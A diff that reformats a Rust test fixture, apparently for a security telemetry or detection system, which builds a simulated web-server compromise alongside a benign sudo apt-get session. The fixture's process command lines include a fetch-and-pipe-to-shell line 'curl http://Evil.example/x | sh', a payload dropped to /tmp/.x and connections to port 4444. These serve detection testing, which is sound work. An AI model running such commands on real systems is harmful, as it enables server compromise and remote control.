@@ -63,14 +63,24 @@ pub fn id(end: &str) -> String {
 }
 
 /// Something that happened on a device of a tenant.
-pub fn envelope(tenant: TenantId, device: u8, sequence: u64, at: Timestamp, action: Action, actor: Option<Arc<Process>>) -> Envelope {
+pub fn envelope(
+    tenant: TenantId,
+    device: u8,
+    sequence: u64,
+    at: Timestamp,
+    action: Action,
+    actor: Option<Arc<Process>>,
+) -> Envelope {
     Envelope {
         tenant,
         device: id(&format!("d{device}")).parse::<DeviceId>().unwrap(),
         device_name: format!("web-{device}").into(),
         received_at: at,
         event: Event {
-            id: EventId { stream: id(&format!("e{device}")).parse::<StreamId>().unwrap(), sequence },
+            id: EventId {
+                stream: id(&format!("e{device}")).parse::<StreamId>().unwrap(),
+                sequence,
+            },
             at,
             actor,
             action,
@@ -78,7 +88,13 @@ pub fn envelope(tenant: TenantId, device: u8, sequence: u64, at: Timestamp, acti
     }
 }
 
-pub fn process(pid: u32, image: &str, command_line: &str, user: &str, started_at: Timestamp) -> Arc<Process> {
+pub fn process(
+    pid: u32,
+    image: &str,
+    command_line: &str,
+    user: &str,
+    started_at: Timestamp,
+) -> Arc<Process> {
     Arc::new(Process {
         key: ProcessKey { boot: BootId(7), pid, start_ticks: u64::from(pid) * 10 },
         parent: None,
@@ -97,7 +113,14 @@ pub fn process(pid: u32, image: &str, command_line: &str, user: &str, started_at
         },
         cgroup: None,
         container: (user == "www-data").then(|| "c0ffee".into()),
-        file: Some(ProcessFile { device: 1, inode: u64::from(pid), size: 4096, sha256: Some([pid as u8; 32]), deleted: false, fileless: false }),
+        file: Some(ProcessFile {
+            device: 1,
+            inode: u64::from(pid),
+            size: 4096,
+            sha256: Some([pid as u8; 32]),
+            deleted: false,
+            fileless: false,
+        }),
         started_at,
         parent_image: None,
         parent_command_line: None,
@@ -109,8 +132,10 @@ pub fn process(pid: u32, image: &str, command_line: &str, user: &str, started_at
 pub fn story(tenant: TenantId) -> Vec<Envelope> {
     let at = |seconds: u64| START.plus(Duration::from_millis(seconds * 1000 + 123));
     let nginx = process(100, "/usr/sbin/nginx", "nginx: worker process", "www-data", at(0));
-    let shell = process(200, "/bin/sh", "sh -c \"curl http://Evil.example/x | sh\"", "www-data", at(60));
-    let curl = process(201, "/usr/bin/curl", "curl -o /tmp/.x http://Evil.example/x", "www-data", at(61));
+    let shell =
+        process(200, "/bin/sh", "sh -c \"curl http://Evil.example/x | sh\"", "www-data", at(60));
+    let curl =
+        process(201, "/usr/bin/curl", "curl -o /tmp/.x http://Evil.example/x", "www-data", at(61));
     let dropped = process(202, "/tmp/.x", "/tmp/.x --connect 203.0.113.9", "www-data", at(65));
     let bash = process(300, "/bin/bash", "-bash", "alice", at(3600));
     let sudo = process(301, "/usr/bin/sudo", "sudo apt-get update", "alice", at(3660));
@@ -124,23 +149,83 @@ pub fn story(tenant: TenantId) -> Vec<Envelope> {
         })
     };
     let file = |path: &str, operation, size| {
-        Action::File(FileChange { path: path.into(), previous_path: None, operation, size, count: 1 })
+        Action::File(FileChange {
+            path: path.into(),
+            previous_path: None,
+            operation,
+            size,
+            count: 1,
+        })
     };
-    let health = SensorHealth { kernel_execs: 7, reported_execs: 7, problems: vec!["late \"start\"".into()], ..SensorHealth::default() };
+    let health = SensorHealth {
+        kernel_execs: 7,
+        reported_execs: 7,
+        problems: vec!["late \"start\"".into()],
+        ..SensorHealth::default()
+    };
     vec![
         envelope(tenant, 1, 1, at(60), Action::ProcessStarted(shell.clone()), Some(nginx)),
         envelope(tenant, 1, 2, at(61), Action::ProcessStarted(curl.clone()), Some(shell.clone())),
-        envelope(tenant, 1, 3, at(62), connection("203.0.113.9", 80, ConnectionOutcome::Succeeded), Some(curl.clone())),
-        envelope(tenant, 1, 4, at(63), file("/tmp/.x", FileOperation::Created, Some(31337)), Some(curl.clone())),
-        envelope(tenant, 1, 5, at(64), Action::ProcessEnded { exit_code: Some(0), signal: None }, Some(curl)),
+        envelope(
+            tenant,
+            1,
+            3,
+            at(62),
+            connection("203.0.113.9", 80, ConnectionOutcome::Succeeded),
+            Some(curl.clone()),
+        ),
+        envelope(
+            tenant,
+            1,
+            4,
+            at(63),
+            file("/tmp/.x", FileOperation::Created, Some(31337)),
+            Some(curl.clone()),
+        ),
+        envelope(
+            tenant,
+            1,
+            5,
+            at(64),
+            Action::ProcessEnded { exit_code: Some(0), signal: None },
+            Some(curl),
+        ),
         envelope(tenant, 1, 6, at(65), Action::ProcessStarted(dropped.clone()), Some(shell)),
-        envelope(tenant, 1, 7, at(66), connection("203.0.113.9", 4444, ConnectionOutcome::Failed), Some(dropped.clone())),
-        envelope(tenant, 1, 8, at(67), connection("10.0.0.7", 22, ConnectionOutcome::Attempted), Some(dropped)),
+        envelope(
+            tenant,
+            1,
+            7,
+            at(66),
+            connection("203.0.113.9", 4444, ConnectionOutcome::Failed),
+            Some(dropped.clone()),
+        ),
+        envelope(
+            tenant,
+            1,
+            8,
+            at(67),
+            connection("10.0.0.7", 22, ConnectionOutcome::Attempted),
+            Some(dropped),
+        ),
         envelope(tenant, 2, 1, at(3600), Action::ProcessStarted(bash.clone()), None),
         envelope(tenant, 2, 2, at(3660), Action::ProcessStarted(sudo.clone()), Some(bash)),
         envelope(tenant, 2, 3, at(3661), Action::ProcessStarted(apt.clone()), Some(sudo)),
-        envelope(tenant, 2, 4, at(3662), connection("2001:db8::1", 443, ConnectionOutcome::Succeeded), Some(apt.clone())),
-        envelope(tenant, 2, 5, at(3663), file("/etc/apt/trusted.gpg", FileOperation::Modified, None), Some(apt)),
+        envelope(
+            tenant,
+            2,
+            4,
+            at(3662),
+            connection("2001:db8::1", 443, ConnectionOutcome::Succeeded),
+            Some(apt.clone()),
+        ),
+        envelope(
+            tenant,
+            2,
+            5,
+            at(3663),
+            file("/etc/apt/trusted.gpg", FileOperation::Modified, None),
+            Some(apt),
+        ),
         envelope(tenant, 2, 6, at(90_000), Action::SensorHealth(health), None),
     ]
 }
